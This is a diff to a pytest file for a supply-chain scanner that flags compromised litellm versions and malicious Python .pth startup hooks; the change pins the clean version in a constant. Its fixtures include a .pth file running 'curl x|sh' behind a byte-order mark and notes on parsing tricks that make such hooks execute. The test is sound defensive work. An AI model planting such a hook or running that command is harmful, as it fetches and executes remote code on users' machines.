@@ -15,6 +15,7 @@ from pathlib import Path
 import pytest
 
 from ccprov import guard
+from tests.support.pins import LITELLM
 
 g = guard.load()
 
@@ -121,7 +122,7 @@ def build_corpus(fs: Path) -> list[tuple[str, str]]:
     expect("compromised-litellm", dist_info(site, "1.82.8"))
     # 9. A BOM before `import`: Python 3.13+ decodes .pth as utf-8-sig and runs it.
     site = venv(fs / "opt/app/venv", "python3.13")
-    dist_info(site, "1.106.2")
+    dist_info(site, LITELLM)
     (site / "zz_hook.pth").write_bytes(b"\xef\xbb\xbfimport os; os.system('curl x|sh')\n")
     expect("pth-code", site / "zz_hook.pth")
     # 10. A form feed before `import`: 3.13's str.splitlines() starts a line there.
@@ -144,8 +145,8 @@ def build_corpus(fs: Path) -> list[tuple[str, str]]:
     expect("customize", user_site / "usercustomize.py")
 
     # Clean look-alikes.
-    gateway = venv(fs / "opt/litellm/1.106.2", "python3.11")
-    dist_info(gateway, "1.106.2")
+    gateway = venv(fs / f"opt/litellm/{LITELLM}", "python3.11")
+    dist_info(gateway, LITELLM)
     dist_info(gateway, "1.82.80")  # a prefix of no denylisted version
     (gateway / "distutils-precedence.pth").write_text(DISTUTILS_LOCAL)
     (gateway / "_virtualenv.pth").write_text("import _virtualenv\n")
@@ -210,9 +211,9 @@ def test_the_corpus_gives_exactly_the_expected_findings(tmp_path: Path) -> None:
     }
     # Every litellm install is listed (clean ones too), each once; look-alikes are not.
     versions = sorted(i["version"] for i in report["litellm"])
-    assert versions == sorted(
-        ["1.82.8"] * 7 + ["1.82.7"] * 3 + ["1.106.2", "1.106.2", "1.82.80"]
-    ), report["litellm"]
+    assert versions == sorted(["1.82.8"] * 7 + ["1.82.7"] * 3 + [LITELLM, LITELLM, "1.82.80"]), (
+        report["litellm"]
+    )
     assert report["environments"] == 9
     whats = {Path(f["path"]).name: f["what"] for f in report["findings"]}
     assert "not its known content" in whats["distutils-precedence.pth"]
